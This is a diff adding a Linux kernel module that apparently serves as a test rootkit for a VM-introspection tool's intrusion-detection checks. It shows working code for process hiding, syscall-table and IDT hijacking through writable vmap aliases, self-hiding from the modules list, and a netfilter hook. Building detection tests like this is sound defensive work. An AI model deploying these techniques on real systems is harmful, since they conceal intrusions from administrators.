@@ -1,0 +1,152 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * A test rootkit for vmsight's lab guests. It does, for real, what the
+ * intrusion-detection checks look for, so that each check is tested on a
+ * real kernel rather than on a mock:
+ *
+ *   hide_pid=N tl=ADDR
+ *                  unlink process N from the task list (it stays in the
+ *                  pid table, so /proc still lists it), holding
+ *                  tasklist_lock (ADDR from /proc/kallsyms: it is not
+ *                  exported to modules);
+ *   sct=ADDR nr=N  point sys_call_table[N] (ADDR from /proc/kallsyms) at
+ *                  this module's code, written through a vmap() alias
+ *                  because the table is read-only;
+ *   idt=ADDR vec=N point gate N of idt_table (ADDR from /proc/kallsyms)
+ *                  at this module's code, through a vmap() alias; the
+ *                  vector must be one nothing raises in the guest;
+ *   hide=1         unlink this module from the modules list (its sysfs
+ *                  kobject stays);
+ *   nf=1           register an IPv4 netfilter hook (accepts everything).
+ *
+ * Never load it outside a throw-away guest: it cannot be unloaded.
+ */
+#include <linux/kernel.h>
+#include <linux/list.h>
+#include <linux/mm.h>
+#include <linux/module.h>
+#include <linux/netfilter.h>
+#include <linux/netfilter_ipv4.h>
+#include <linux/pid.h>
+#include <linux/sched.h>
+#include <linux/sched/task.h>
+#include <linux/vmalloc.h>
+#include <asm/desc_defs.h>
+#include <net/net_namespace.h>
+
+static int hide_pid;
+module_param(hide_pid, int, 0);
+static unsigned long tl;
+module_param(tl, ulong, 0);
+static unsigned long sct;
+module_param(sct, ulong, 0);
+static int nr = -1;
+module_param(nr, int, 0);
+static unsigned long idt;
+module_param(idt, ulong, 0);
+static int vec = -1;
+module_param(vec, int, 0);
+static bool hide;
+module_param(hide, bool, 0);
+static bool nf;
+module_param(nf, bool, 0);
+
+typedef long (*sys_fn)(const struct pt_regs *);
+static sys_fn orig;
+
+/* The replacement entry: passes every call on unchanged. */
+static long rk_hook(const struct pt_regs *regs)
+{
+	return orig(regs);
+}
+
+/* Never run: only its address matters. */
+static void rk_gate(void)
+{
+	pr_info("vmsight_rk: gate\n");
+}
+
+static int hook_idt(void)
+{
+	gate_desc *slot = (gate_desc *)idt + vec;
+	struct page *pg = virt_to_page(slot);
+	void *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
+	unsigned long fn = (unsigned long)rk_gate;
+	gate_desc *g;
+
+	if (!alias)
+		return -ENOMEM;
+	g = alias + offset_in_page(slot);
+	g->offset_low = (u16)fn;
+	g->offset_middle = (u16)(fn >> 16);
+	g->offset_high = (u32)(fn >> 32);
+	vunmap(alias);
+	return 0;
+}
+
+static unsigned int rk_nf(void *priv, struct sk_buff *skb,
+			  const struct nf_hook_state *state)
+{
+	return NF_ACCEPT;
+}
+
+static struct nf_hook_ops rk_ops = {
+	.hook = rk_nf,
+	.pf = NFPROTO_IPV4,
+	.hooknum = NF_INET_PRE_ROUTING,
+	.priority = NF_IP_PRI_FIRST,
+};
+
+static int hook_syscall(void)
+{
+	unsigned long *slot = (unsigned long *)sct + nr;
+	struct page *pg = virt_to_page(slot);
+	void *alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
+
+	if (!alias)
+		return -ENOMEM;
+	orig = (sys_fn)*slot;
+	*(unsigned long *)(alias + offset_in_page(slot)) =
+		(unsigned long)rk_hook;
+	vunmap(alias);
+	return 0;
+}
+
+static int hide_task(void)
+{
+	struct task_struct *t;
+
+	rcu_read_lock();
+	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
+	if (t)
+		get_task_struct(t);
+	rcu_read_unlock();
+	if (!t)
+		return -ESRCH;
+	write_lock_irq((rwlock_t *)tl);
+	list_del_init(&t->tasks);
+	write_unlock_irq((rwlock_t *)tl);
+	put_task_struct(t);
+	return 0;
+}
+
+static int __init rk_init(void)
+{
+	int err = 0;
+
+	if (hide_pid > 0 && tl && (err = hide_task()))
+		return err;
+	if (sct && nr >= 0 && nr < 512 && (err = hook_syscall()))
+		return err;
+	if (idt && vec >= 0 && vec < 256 && (err = hook_idt()))
+		return err;
+	if (nf && (err = nf_register_net_hook(&init_net, &rk_ops)))
+		return err;
+	if (hide)
+		list_del_init(&THIS_MODULE->list);
+	return 0;
+}
+
+module_init(rk_init);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("vmsight lab: rootkit behaviours for detection tests");
